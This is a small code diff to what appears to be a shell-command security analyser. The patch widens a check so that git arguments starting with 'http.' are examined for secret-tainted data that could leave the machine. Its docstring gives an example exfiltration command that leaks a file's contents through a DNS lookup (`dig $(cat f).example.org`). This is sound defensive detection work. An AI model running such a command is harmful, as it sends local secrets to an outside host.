@@ -231,7 +231,7 @@ def _judge_told_words(walker: Walker, program: str, invocation: Invocation) -> N
     """Data in an address or a name leaves the machine when it is looked up: `dig $(cat f).example.org`."""
     words = invocation.words[1:]
     if program == "git":  # its other words stay here
-        words = [word for word in words if "://" in word.text]
+        words = [word for word in words if "://" in word.text or word.text.startswith("http.")]
     if any("secret" in word.taint or (program not in _LOGGED_IN and confides(word.taint)) for word in words):
         walker.add("send-secret", [], invocation.place, invocation=invocation)
         return
